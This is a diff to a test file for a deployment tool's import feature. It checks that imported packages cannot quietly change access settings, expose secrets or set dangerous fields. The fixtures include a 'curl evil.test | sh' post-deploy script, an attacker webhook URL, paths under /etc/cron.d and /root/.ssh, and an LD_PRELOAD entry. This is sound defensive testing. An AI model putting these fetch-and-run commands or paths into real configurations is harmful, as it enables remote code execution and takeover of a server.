@@ -14,7 +14,7 @@ import { snapshot } from '../support/tree.js'
 import { zipOf } from '../support/zip.js'
 
 const actor = { name: 'test', ip: null }
-const request: ImportRequest = { strategy: 'skip-existing', restoreArtifacts: true, dryRun: false, actor }
+const request: ImportRequest = { strategy: 'skip-existing', accessSettings: false, restoreArtifacts: true, dryRun: false, actor }
 const overwrite: ImportRequest = { ...request, strategy: 'overwrite' }
 
 /** A store without a server around it, and what an import asks of other rooms written down. */
@@ -47,7 +47,7 @@ async function openImport(t: Parameters<typeof openStage>[0], change: Partial<Tr
   return { ...stage, home, needs, restored, take }
 }
 
-const project = { id: 'proj_a', name: 'A', deployPath: '/srv/svc-test/a', token: 'token-a' }
+const project = { id: 'proj_a', name: 'A', deployPath: '/srv/svc-test/a', token: 'token-of-a' }
 const deployment = { id: 'dep_a', projectId: 'proj_a', status: 'success', startTime: '2026-01-31T12:00:00.000Z' }
 
 t.test('an import whose transaction fails leaves records and files as they were', async t => {
@@ -92,7 +92,7 @@ t.test('records that change while the package is unpacked: nothing is written', 
 t.test('lists keep their order', async t => {
   const { store, take } = await openImport(t)
   const ids = ['dep_3', 'dep_2', 'dep_1']
-  await take({ 'projects.json': [project, { ...project, id: 'proj_b', deployPath: '/srv/svc-test/b', token: 'b' }], 'deployments.json': ids.map(id => ({ ...deployment, id })) })
+  await take({ 'projects.json': [project, { ...project, id: 'proj_b', deployPath: '/srv/svc-test/b', token: 'token-of-b' }], 'deployments.json': ids.map(id => ({ ...deployment, id })) })
   t.strictSame(listDeployments(store, { limit: 10 }).map(({ id }) => id), ids)
   t.strictSame(listProjects(store).map(({ id }) => id), ['proj_a', 'proj_b'])
 })
@@ -121,4 +121,80 @@ t.test('an artifact that cannot be restored fails by itself', async t => {
   const result = await take({ 'projects.json': [project], 'artifacts/proj_a.zip': await zipOf({ a: 'a' }) }, request, { deployments })
   t.strictSame(result.artifacts, { created: [], replaced: [], skipped: ['proj_a'], failed: [{ id: 'proj_a', error: 'no space' }] })
   t.strictSame(result.projects.created, ['proj_a'])
+})
+
+t.test('settings that decide who has access come only when asked for', async t => {
+  const settings = {
+    trusted_proxies: '0.0.0.0/0', allowed_ips: '', webhook_url: 'https://evil.test/', webhook_secret: 'theirs', global_deploy_token: 'theirs-123456',
+    allow_client_scripts: 'true', terminal_enabled: 'true', script_timeout: '77', keep_archives: '3'
+  }
+  const { take, needs } = await openImport(t)
+  const before = needs.settings.all()
+  const result = await take({ 'settings.json': { ...settings, no_such_setting: 'x' } }, overwrite)
+  t.strictSame(needs.settings.all(), { ...before, script_timeout: '77', keep_archives: '3' })
+  t.strictSame(result.settings.created, ['keep_archives', 'script_timeout'])
+  t.strictSame(result.settings.skipped.sort(), [
+    'allow_client_scripts', 'allowed_ips', 'global_deploy_token', 'terminal_enabled', 'trusted_proxies', 'webhook_secret', 'webhook_url'
+  ])
+  t.match(result.notes, [/"allowed_ips".*who has access.*--with-access-settings/, /"no_such_setting" is not known/])
+
+  await take({ 'settings.json': { global_deploy_token: 'short' } })
+  await t.rejects(take({ 'settings.json': { global_deploy_token: 'short' } }, { ...request, accessSettings: true }), { code: 'invalid_setting' })
+  const all = await take({ 'settings.json': settings }, { ...overwrite, accessSettings: true })
+  t.match(needs.settings.all(), settings)
+  t.strictSame(all.settings.skipped, [])
+  t.strictSame(all.notes, [])
+})
+
+t.test('a dry run names every path, script and setting that would come', async t => {
+  const { take } = await openImport(t)
+  const shop = {
+    ...project, name: 'Shop', preDeployScript: 'echo pre', postDeployScript: 'curl evil.test | sh\ntrue', postDeployAsync: true,
+    allowClientScripts: true, allowedEnv: ['APP_*']
+  }
+  const files = {
+    'settings.json': { script_timeout: '77', webhook_secret: 'a-secret-of-theirs', webhook_url: 'https://evil.test/' },
+    'projects.json': [shop, { ...project, id: 'proj_b', deployPath: '/srv/svc-test/b', token: '' }],
+    'artifacts/proj_a.zip': await zipOf({ a: 'a' })
+  }
+  const dry = { ...request, dryRun: true, accessSettings: true }
+  const { brings } = await take(files, dry)
+  t.match(brings, {
+    settings: [
+      { key: 'webhook_url', value: 'https://evil.test/' }, { key: 'webhook_secret', value: null }, { key: 'script_timeout', value: '77' }
+    ],
+    projects: [
+      {
+        id: 'proj_a', name: 'Shop', deployPath: '/srv/svc-test/a', preDeployScript: 'echo pre', postDeployScript: shop.postDeployScript,
+        allowClientScripts: true, allowedEnv: ['APP_*'], hasArtifact: true
+      },
+      { id: 'proj_b', deployPath: '/srv/svc-test/b', preDeployScript: '', postDeployScript: '', hasArtifact: false }
+    ],
+    logSources: []
+  })
+  t.notMatch(JSON.stringify(brings), /a-secret-of-theirs|token-of-a/)
+  await take(files)
+  t.strictSame((await take(files, dry)).brings.projects, [], 'what is skipped is not brought')
+})
+
+t.test('what a package says is held to the rules of the API', async t => {
+  const { take, store } = await openImport(t)
+  for (const [file, record] of Object.entries({
+    'token, 7 characters': { token: 'token-a' }, 'token, spaces': { token: 'token of a' }, 'token, too long': { token: 'a'.repeat(1025) },
+    'deployPath, of the system': { deployPath: '/etc/cron.d' }, 'deployPath, a key': { deployPath: '/root/.ssh' },
+    'deployPath, two lines': { deployPath: '/srv/a\nb' }, 'pm2AppName, two lines': { pm2AppName: 'a\nb' },
+    'allowedEnv, all': { allowedEnv: ['*'] }, 'allowedEnv, denied': { allowedEnv: ['LD_PRELOAD'] },
+    'allowedEnv, too many': { allowedEnv: Array.from({ length: 101 }, (_, index) => `A${index}`) }
+  })) {
+    const [, field = ''] = /^(\w+)/.exec(file) ?? []
+    await t.rejects(take({ 'projects.json': [{ ...project, ...record }] }), { kind: 'invalid', message: new RegExp(`projects\\.json\\[0\\]\\.${field}`) }, file)
+  }
+  const log = { id: 'lsrc_a', projectId: 'proj_a', filePath: 'relative.log' }
+  await t.rejects(take({ 'projects.json': [project], 'log-sources.json': [log] }), { message: /log-sources\.json\[0\]\.filePath/ })
+  await take({
+    'projects.json': [{ ...project, name: 'Shop\n✓ success', env: 'a\u202eb', allowedEnv: ['APP_*', 'APP_*'], description: 'One\nTwo' }],
+    'tags.json': [{ id: 'tag_a', name: 'a\nb' }], 'deployments.json': [{ ...deployment, projectName: 'x\ny', message: 'm\nn' }]
+  })
+  t.match(listProjects(store), [{ name: 'Shop\\n✓ success', env: 'a\\u202eb', allowedEnv: ['APP_*'], description: 'One\nTwo' }])
+  t.match(findDeployment(store, 'dep_a'), { projectName: 'x\\ny', message: 'm\\nn' })
 })
